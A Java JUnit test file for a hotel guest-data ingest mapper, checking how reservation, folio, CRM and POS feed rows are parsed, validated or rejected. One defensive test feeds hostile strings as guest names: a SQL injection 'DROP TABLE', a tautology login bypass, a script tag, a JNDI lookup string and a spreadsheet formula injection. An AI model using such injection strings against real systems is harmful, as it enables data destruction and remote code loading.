package io.guestlink.ingest;

import io.guestlink.identity.Normalisers;
import io.guestlink.identity.EmailNormaliser;
import io.guestlink.identity.IdDocumentHasher;
import io.guestlink.identity.PhoneNormaliser;
import io.guestlink.identity.PlaceholderList;
import io.guestlink.model.CanonicalRecord;
import io.guestlink.model.FolioLine;
import io.guestlink.model.GuestProfile;
import io.guestlink.model.PersonName;
import io.guestlink.model.PosTicket;
import io.guestlink.model.RecordKind;
import io.guestlink.model.Reservation;
import io.guestlink.model.StayStatus;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class RecordMapperTest {

    /** Today is 2025-06-15 for every test: stay dates may reach 2035-06-15. */
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2025-06-15T10:00:00Z"), ZoneOffset.UTC);

    private static final Normalisers NORMALISERS = new Normalisers(
            new EmailNormaliser(PlaceholderList.defaults()),
            new PhoneNormaliser(PlaceholderList.defaults()),
            new IdDocumentHasher("0123456789abcdef0123".getBytes(StandardCharsets.UTF_8), PlaceholderList.defaults()));

    private static final String RESERVATION_YAML = """
            id: opera-res
            system: OPERA
            kind: reservation
            property: BKK01
            currency: THB
            key: [CONF]
            dateFormats: ["yyyy-MM-dd", "dd/MM/yyyy"]
            fields:
              reservation.confirmationNumber: CONF
              reservation.arrival: ARR
              reservation.departure: DEP
              reservation.rateAmount: RATE
              reservation.status: {column: STATUS, codes: status}
              reservation.channel: {column: CHANNEL, codes: channel}
              reservation.rateCode: RATECODE
              guest.name: {column: NAME, nameFormat: "LAST/FIRST TITLE"}
              guest.birthDate: {column: DOB, formats: ["dd-MMM-yy", "yyyy-MM-dd"]}
            codes:
              status: {R: BOOKED, I: IN_HOUSE, X: CANCELLED}
              channel: {WEB: Website, GDS: Global distribution, "*": Other}
            """;
    private static final String RES_HEADER = "CONF,ARR,DEP,RATE,STATUS,CHANNEL,RATECODE,NAME,DOB\n";
    private static final String RES_GOOD = "C100,2025-07-01,2025-07-03,120.50,R,WEB,BAR,YU/MING MR,12-MAR-65\n";
    private static final String RES_GOOD_2 = "C102,2025-08-01,2025-08-02,99,I,GDS,BAR,SMITH/ANN MS,1980-01-31\n";

    private static final String FOLIO_YAML = """
            id: opera-folio
            system: OPERA
            kind: folio
            property: BKK01
            currency: THB
            key: ["$line"]
            fields:
              folio.folioNumber: FOLIO
              folio.businessDate: DATE
              folio.amount: AMOUNT
              folio.credit: CR
              folio.category: {column: CAT, codes: category}
            codes:
              category: {RM: ROOM, FB: FNB, "*": OTHER}
            """;

    private static final String PROFILE_YAML = """
            id: crm
            system: CRM
            kind: guest-profile
            key: [GUEST_ID]
            fields:
              guest.key: GUEST_ID
              guest.name: NAME
              guest.email: EMAIL
              guest.vip: VIP
            """;

    private static final String POS_YAML = """
            id: pos
            system: MICROS
            kind: pos-ticket
            property: BKK01
            currency: THB
            key: [ticket]
            dateTimeFormats: ["yyyy-MM-dd'T'HH:mm[:ss]"]
            format: {type: json-lines, itemsArray: items}
            fields:
              pos.ticketNumber: ticket
              pos.outlet: outlet
              pos.closed: closed
              pos.total: total
              pos.guestName: guest.name
              pos.item.name: name
              pos.item.quantity: qty
              pos.item.price: price
            """;

    @TempDir
    Path dir;

    // ---------------------------------------------------------------- helpers

    private RecordMapper mapper(String yaml) throws IOException {
        Path file = dir.resolve("feed-" + System.nanoTime() + ".yaml");
        Files.writeString(file, yaml);
        return new RecordMapper(SourceConfigLoader.load(file), NORMALISERS, CLOCK);
    }

    private record Row(long line, MappingOutcome outcome) {
        CanonicalRecord record() {
            assertThat(outcome).as("line %d", line).isInstanceOf(MappingOutcome.Mapped.class);
            return ((MappingOutcome.Mapped) outcome).record();
        }

        MappingOutcome.Rejected rejected() {
            assertThat(outcome).as("line %d", line).isInstanceOf(MappingOutcome.Rejected.class);
            return (MappingOutcome.Rejected) outcome;
        }

        Reservation reservation() {
            return (Reservation) record().fact();
        }

        FolioLine folio() {
            return (FolioLine) record().fact();
        }
    }

    /** Reads a whole file through the feed's reader and maps every record, as the importer does. */
    private static List<Row> importText(RecordMapper mapper, String text) throws IOException {
        List<Row> rows = new ArrayList<>();
        try (RecordReader reader = RecordReader.open(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)),
                mapper.config().format())) {
            assertThat(mapper.missingColumns(reader.columnNames())).isEmpty();
            reader.forEachRemaining(r -> rows.add(new Row(r.line(), mapper.map(r))));
        }
        return rows;
    }

    private List<Row> reservations(String... rows) throws IOException {
        return importText(mapper(RESERVATION_YAML), RES_HEADER + String.join("", rows));
    }

    /** A reservation file: a good row, the row under test on line 3, another good row. */
    private List<Row> reservationsAround(String rowUnderTest) throws IOException {
        List<Row> rows = reservations(RES_GOOD, rowUnderTest + "\n", RES_GOOD_2);
        assertThat(rows).extracting(Row::line).containsExactly(2L, 3L, 4L);
        assertThat(rows.get(0).reservation().confirmationNumber()).isEqualTo("C100");
        assertThat(rows.get(2).reservation().confirmationNumber()).isEqualTo("C102");
        return rows;
    }

    private static String resRow(String conf, String arr, String dep, String rate, String name, String dob) {
        return String.join(",", conf, arr, dep, rate, "R", "WEB", "BAR", name, dob);
    }

    // ---------------------------------------------------------------- good rows

    @Test
    void shouldMapAGoodReservationRow() throws IOException {
        Row row = reservations(RES_GOOD).get(0);

        CanonicalRecord rec = row.record();
        assertThat(rec.ref().system()).isEqualTo("OPERA");
        assertThat(rec.ref().kind()).isEqualTo(RecordKind.RESERVATION);
        assertThat(rec.ref().key()).isEqualTo("C100");
        Reservation r = row.reservation();
        assertThat(r.property()).isEqualTo("BKK01");
        assertThat(r.arrival()).isEqualTo(LocalDate.of(2025, 7, 1));
        assertThat(r.departure()).isEqualTo(LocalDate.of(2025, 7, 3));
        assertThat(r.rateAmount()).isEqualByComparingTo("120.50");
        assertThat(r.currency()).isEqualTo("THB");
        assertThat(r.status()).isEqualTo(StayStatus.BOOKED);
        assertThat(r.channel()).isEqualTo("Website");
        assertThat(rec.guest().names()).containsExactly(new PersonName("MING YU", "YU", "MING", "MR", "LATIN"));
    }

    // ---------------------------------------------------------------- reader problems reach the mapper

    @Test
    void shouldRejectMalformedRecordAsWholeRecordAndMapItsNeighbours() throws IOException {
        List<Row> rows = reservationsAround("C101,2025-07-01,2025-07-02,\"10\"0,R,WEB,BAR,A/B,");

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("(record)");
        assertThat(bad.reason()).startsWith("malformed quoting");
    }

    // ---------------------------------------------------------------- dates

    @ParameterizedTest(name = "[{index}] arrival {0}")
    @ValueSource(strings = {"1850-03-01", "2250-03-01", "1900-01-01", "2035-06-16"})
    void shouldRejectStayDateOutOfRange(String arrival) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", arrival, "", "100", "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.arrival");
        assertThat(bad.value()).isEqualTo(arrival);
        assertThat(bad.reason()).isEqualTo("date out of range 1900-01-02 .. 2035-06-15");
    }

    @Test
    void shouldAcceptStayDatesAtTheEdgesOfTheRange() throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "1900-01-02", "2035-06-15", "100", "A/B", ""));

        assertThat(rows.get(1).reservation().arrival()).isEqualTo(LocalDate.of(1900, 1, 2));
        assertThat(rows.get(1).reservation().departure()).isEqualTo(LocalDate.of(2035, 6, 15));
    }

    @ParameterizedTest(name = "[{index}] arrival {0}")
    @ValueSource(strings = {"2025-02-31", "2025-02-29", "31/02/2025", "2025-13-01", "tomorrow"})
    void shouldRejectInvalidStayDate(String arrival) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", arrival, "", "100", "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.arrival");
        assertThat(bad.value()).isEqualTo(arrival);
        assertThat(bad.reason()).isEqualTo("not a date in the formats [yyyy-MM-dd, dd/MM/yyyy]");
    }

    @Test
    void shouldTryDatePatternsInOrder() throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "03/04/2025", "2025-04-05", "100", "A/B", ""));

        assertThat(rows.get(1).reservation().arrival()).isEqualTo(LocalDate.of(2025, 4, 3));
    }

    @Test
    void shouldRejectDepartureBeforeArrival() throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-05", "2025-07-01", "100", "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.departure");
        assertThat(bad.reason()).isEqualTo("departure before arrival 2025-07-05");
    }

    @ParameterizedTest(name = "[{index}] {0} -> {1}")
    @CsvSource({
            "12-MAR-65, 1965-03-12",
            "12-mar-65, 1965-03-12",
            "01-JAN-99, 1999-01-01",
            "15-JUN-25, 2025-06-15",
            "01-JAN-15, 2015-01-01",
            "01-JAN-00, 2000-01-01",
            "1965-03-12, 1965-03-12",
    })
    void shouldReadTwoDigitBirthYearsInThePast(String dob, LocalDate expected) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", "A/B", dob));

        assertThat(rows.get(1).record().guest().birthDate()).isEqualTo(expected);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {"1900-01-01", "1850-05-05", "2030-01-01", "2025-06-16"})
    void shouldDropImpossibleBirthDateButKeepTheRow(String dob) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", "A/B", dob));

        CanonicalRecord rec = rows.get(1).record();
        assertThat(rec.guest().birthDate()).isNull();
        assertThat(rec.guest().names()).hasSize(1);
    }

    @Test
    void shouldRejectUnparseableBirthDate() throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", "A/B", "31-FEB-80"));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("guest.birthDate");
        assertThat(bad.reason()).isEqualTo("not a date in the formats [dd-MMM-yy, yyyy-MM-dd]");
    }

    // ---------------------------------------------------------------- amounts

    @ParameterizedTest(name = "[{index}] rate {0}")
    @ValueSource(strings = {"-120.00", "-0.01", "-1e3"})
    void shouldRejectNegativeReservationRate(String rate) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", rate, "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.rateAmount");
        assertThat(bad.reason()).isEqualTo("must not be negative");
    }

    @ParameterizedTest(name = "[{index}] rate {0}")
    @ValueSource(strings = {"abc", "NaN", "Infinity", "(120.00)", "12.3.4"})
    void shouldRejectRateThatIsNotANumber(String rate) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", rate, "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.rateAmount");
        assertThat(bad.value()).isEqualTo(rate);
        assertThat(bad.reason()).isEqualTo("not a number");
    }

    private List<Row> folios(String middleRow) throws IOException {
        List<Row> rows = importText(mapper(FOLIO_YAML), "FOLIO,DATE,AMOUNT,CR,CAT\n"
                + "F1,2025-06-01,100.00,N,RM\n"
                + middleRow + "\n"
                + "F3,2025-06-01,25.00,,FB\n");
        assertThat(rows).extracting(Row::line).containsExactly(2L, 3L, 4L);
        assertThat(rows.get(0).folio().amount()).isEqualByComparingTo("100.00");
        assertThat(rows.get(2).folio().amount()).isEqualByComparingTo("25.00");
        return rows;
    }

    @ParameterizedTest(name = "[{index}] amount {0}")
    @ValueSource(strings = {"1e12", "1000000000000", "-1e12", "1000000.01", "1e999999"})
    void shouldRejectFolioAmountBeyondMaxAmount(String amount) throws IOException {
        MappingOutcome.Rejected bad = folios("F2,2025-06-01," + amount + ",N,RM").get(1).rejected();

        assertThat(bad.field()).isEqualTo("folio.amount");
        assertThat(bad.value()).isEqualTo(amount);
        assertThat(bad.reason()).isEqualTo("amount beyond the feed's maxAmount 1000000");
    }

    @Test
    void shouldAcceptNegativeFolioAmountAsACredit() throws IOException {
        FolioLine f = folios("F2,2025-06-01,-250.00,N,RM").get(1).folio();

        assertThat(f.amount()).isEqualByComparingTo("-250.00");
        assertThat(f.folioNumber()).isEqualTo("F2");
    }

    @Test
    void shouldAcceptFolioAmountExactlyAtMaxAmount() throws IOException {
        assertThat(folios("F2,2025-06-01,\"1,000,000.00\",N,RM").get(1).folio().amount()).isEqualByComparingTo("1000000");
    }

    @Test
    void shouldRejectAnUndeclaredDecimalCommaInsteadOfReadingItAsThousands() throws IOException {
        MappingOutcome.Rejected bad = folios("F2,2025-06-01,\"12,50\",N,RM").get(1).rejected();

        assertThat(bad.field()).isEqualTo("folio.amount");
        assertThat(bad.reason()).contains("ambiguous comma");
    }

    @Test
    void shouldReadDecimalCommaAmountsWhenTheFeedDeclaresThem() throws IOException {
        RecordMapper m = mapper(FOLIO_YAML + "format: {decimalComma: true}\n");
        List<Row> rows = importText(m, "FOLIO,DATE,AMOUNT,CR,CAT\nF2,2025-06-01,\"1.234,50\",N,RM\n");

        assertThat(rows.get(0).folio().amount()).isEqualByComparingTo("1234.50");
    }

    @ParameterizedTest(name = "[{index}] amount {0} credit {1}")
    @CsvSource({"80.00, Y, -80.00", "80.00, yes, -80.00", "80.00, N, 80.00", "80.00, '', 80.00", "80.00, 1, -80.00"})
    void shouldNegateAmountWhenCreditFlagIsSet(String amount, String credit, BigDecimal expected) throws IOException {
        FolioLine f = folios("F2,2025-06-01," + amount + "," + credit + ",RM").get(1).folio();

        assertThat(f.amount()).isEqualByComparingTo(expected);
    }

    @Test
    void shouldRejectCreditFlagThatIsNotYesOrNo() throws IOException {
        MappingOutcome.Rejected bad = folios("F2,2025-06-01,80.00,maybe,RM").get(1).rejected();

        assertThat(bad.field()).isEqualTo("folio.credit");
        assertThat(bad.reason()).startsWith("not a yes/no value");
    }

    // ---------------------------------------------------------------- keys

    @Test
    void shouldUseFileLineNumberAsKeyForLineKeyedFeed() throws IOException {
        List<Row> rows = folios("F2,2025-06-01,10.00,N,RM");

        assertThat(rows).extracting(r -> r.record().ref().key()).containsExactly("2", "3", "4");
        assertThat(rows.get(1).record().ref().asText()).isEqualTo("OPERA:folio:3");
    }

    @ParameterizedTest(name = "[{index}] key ''{0}''")
    @ValueSource(strings = {"", "   ", "NULL", "n/a", "\u0000\u0007"})
    void shouldRejectRowWhoseKeyColumnIsEmpty(String conf) throws IOException {
        List<Row> rows = reservationsAround(resRow(conf, "2025-07-01", "2025-07-02", "100", "A/B", ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("CONF");
        assertThat(bad.reason()).isEqualTo("key column is empty");
    }

    // ---------------------------------------------------------------- code tables

    @Test
    void shouldRejectCodeMissingFromCodeTableNamingTheTable() throws IOException {
        List<Row> rows = reservationsAround("C101,2025-07-01,2025-07-02,100,Z,WEB,BAR,A/B,");

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("reservation.status");
        assertThat(bad.value()).isEqualTo("Z");
        assertThat(bad.reason()).isEqualTo("not in code table 'status'");
    }

    @ParameterizedTest(name = "[{index}] {0} -> {1}")
    @CsvSource({"WEB, Website", "web, Website", "GDS, Global distribution", "FAX, Other", "'Walk in', Other"})
    void shouldTranslateCodesCaseInsensitivelyAndFallBackToStarDefault(String code, String expected) throws IOException {
        List<Row> rows = reservationsAround("C101,2025-07-01,2025-07-02,100,x," + code + ",BAR,A/B,");

        assertThat(rows.get(1).reservation().channel()).isEqualTo(expected);
        assertThat(rows.get(1).reservation().status()).isEqualTo(StayStatus.CANCELLED);
    }

    // ---------------------------------------------------------------- field size

    @Test
    void shouldRejectOneMegabyteFieldValueAndMapTheNextRow() throws IOException {
        String huge = "A".repeat(1 << 20);
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", huge, ""));

        MappingOutcome.Rejected bad = rows.get(1).rejected();
        assertThat(bad.field()).isEqualTo("guest.name");
        assertThat(bad.reason()).isEqualTo("value is 1048576 characters, more than maxFieldChars 4096");
        assertThat(bad.value()).hasSizeLessThan(300).endsWith("(1048576 chars)");
    }

    // ---------------------------------------------------------------- hostile text

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {
            "YU\u0000/MING\u0007 MR",
            "\u001B[31mYU/MING MR\u001B[0m",
            "\u0007YU/\tMING\u0000\u0000 MR\u001B",
            "\u200BYU/MING\u007F MR\u009B",
            "\u202EYU/MING MR\u202C",
            "\u2067YU\u2069/MING MR",
    })
    void shouldStripControlCharactersFromNameAndStillParseIt(String name) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", name, ""));

        assertThat(rows.get(1).record().guest().names())
                .containsExactly(new PersonName("MING YU", "YU", "MING", "MR", "LATIN"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {"\u0000", "\u0000\u0007\u001B", "\u001B[31m\u001B[0m", " \u0007 \u200B "})
    void shouldLeaveNoNameWhenNameIsOnlyControlCharacters(String name) throws IOException {
        List<Row> rows = reservationsAround(resRow("C101", "2025-07-01", "2025-07-02", "100", name, ""));

        CanonicalRecord rec = rows.get(1).record();
        assertThat(rec.guest()).isNull();
        assertThat(rows.get(1).reservation().confirmationNumber()).isEqualTo("C101");
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {
            "Robert'); DROP TABLE guest_profile;--",
            "<script>alert(1)</script>",
            "' OR '1'='1",
            "${jndi:ldap://example.com/a}",
            "=HYPERLINK(\"\"http://example.com\"\")",
    })
    void shouldMapSqlAndScriptMetacharactersVerbatim(String hostile) throws IOException {
        String quoted = "\"" + hostile + "\"";
        List<Row> rows = importText(mapper(PROFILE_YAML), "GUEST_ID,NAME,EMAIL,VIP\n"
                + "G1,Ann Smith,Ann.Smith@Gmail.com,GOLD\n"
                + "G2," + quoted + ",,\"<b>'VIP';--\"\n"
                + "G3,Bob Jones,,\n");

        String expected = hostile.replace("\"\"", "\"");
        GuestProfile g = rows.get(1).record().guest();
        assertThat(g.names()).singleElement().satisfies(n -> {
            assertThat(n.full()).isEqualTo(expected);
            assertThat(n.family()).isNull();
            assertThat(n.given()).isNull();
        });
        assertThat(g.vipCode()).isEqualTo("<b>'VIP';--"); // a code within its 32 characters, verbatim too
        assertThat(rows.get(1).record().guestKey()).isEqualTo("G2");
        assertThat(rows.get(0).record().guest().emails()).containsExactly("ann.smith@gmail.com");
        assertThat(rows.get(2).record().guest().displayName()).isEqualTo("Bob Jones");
    }

    @Test
    void shouldKeepGuestProfileRowThatOnlyHasItsKey() throws IOException {
        List<Row> rows = importText(mapper(PROFILE_YAML), "GUEST_ID,NAME,EMAIL,VIP\nG1,Ann,,\nG2,\u0000,NULL,\nG3,Bob,,\n");

        // G2 still has its guest.key, so it is kept: a key alone identifies a source guest
        assertThat(rows.get(1).record().guestKey()).isEqualTo("G2");
        assertThat(rows.get(1).record().guest()).isNull();
        assertThat(rows.get(2).record().guest().displayName()).isEqualTo("Bob");
    }

    // ---------------------------------------------------------------- json-lines POS with items

    @Test
    void shouldMapEveryElementOfTheItemsArray() throws IOException {
        List<Row> rows = importText(mapper(POS_YAML), String.join("\n",
                "{\"ticket\":\"T1\",\"outlet\":\"BAR\",\"closed\":\"2025-06-01T21:15\",\"total\":12.5,\"guest\":{\"name\":\"Ann\"},"
                        + "\"items\":[{\"name\":\"Tea\",\"qty\":2,\"price\":3.5},{\"name\":\"Cake\",\"price\":5.5}]}",
                "{\"ticket\":\"T2\",\"total\":1e12,\"items\":[]}",
                "{\"ticket\":\"T3\",\"items\":[{\"name\":\"Tea\"},{\"name\":null,\"price\":1},{\"name\":\"Cake\"}]}",
                "{\"ticket\":\"T4\",\"total\":-4.5,\"items\":[{\"name\":\"Void tea\",\"qty\":-1,\"price\":4.5}]}",
                ""));

        assertThat(rows).extracting(Row::line).containsExactly(1L, 2L, 3L, 4L);
        PosTicket t1 = (PosTicket) rows.get(0).record().fact();
        assertThat(t1.outlet()).isEqualTo("BAR");
        assertThat(t1.guestName()).isEqualTo("Ann");
        assertThat(t1.closed()).isEqualTo(java.time.LocalDateTime.of(2025, 6, 1, 21, 15));
        assertThat(t1.total()).isEqualByComparingTo("12.5");
        assertThat(t1.items()).extracting(i -> i.line(), i -> i.name(), i -> i.quantity().toPlainString(), i -> i.price().toPlainString())
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("1", "Tea", "2", "3.5"),
                        org.assertj.core.groups.Tuple.tuple("2", "Cake", "1", "5.5"));

        MappingOutcome.Rejected t2 = rows.get(1).rejected();
        assertThat(t2.field()).isEqualTo("pos.total");
        assertThat(t2.reason()).isEqualTo("amount beyond the feed's maxAmount 1000000");

        // an item without a name must not silently end the list: the ticket is rejected naming the field
        MappingOutcome.Rejected t3 = rows.get(2).rejected();
        assertThat(t3.field()).isEqualTo("pos.item.name");
        assertThat(t3.reason()).isEqualTo("required value is empty");

        PosTicket t4 = (PosTicket) rows.get(3).record().fact();
        assertThat(t4.items()).singleElement().satisfies(i -> assertThat(i.quantity()).isEqualByComparingTo("-1"));
    }

    @Test
    void shouldRejectInvalidJsonLineAsWholeRecord() throws IOException {
        List<Row> rows = importText(mapper(POS_YAML), "{\"ticket\":\"T1\",\"items\":[]}\n{\"ticket\":\"T2\",\n{\"ticket\":\"T3\"}\n");

        assertThat(rows.get(0).record().ref().key()).isEqualTo("T1");
        assertThat(rows.get(1).rejected().field()).isEqualTo("(record)");
        assertThat(rows.get(1).rejected().reason()).startsWith("invalid JSON");
        assertThat(rows.get(2).record().ref().key()).isEqualTo("T3");
    }

    // ---------------------------------------------------------------- mapping without the reader

    @Test
    void shouldMapARawRecordBuiltByHand() throws IOException {
        RecordMapper m = mapper(FOLIO_YAML);

        MappingOutcome out = m.map(new RawRecord(9, Map.of("FOLIO", "F9", "DATE", "2025-06-01", "AMOUNT", "1,234.50",
                "CR", "N", "CAT", "MB"), "raw", null, false));

        assertThat(out).isInstanceOfSatisfying(MappingOutcome.Mapped.class, mapped -> {
            FolioLine f = (FolioLine) mapped.record().fact();
            assertThat(f.amount()).isEqualByComparingTo("1234.50");
            assertThat(f.category()).isEqualTo(io.guestlink.model.ChargeCategory.OTHER);
            assertThat(mapped.record().ref().key()).isEqualTo("9");
        });
    }
}
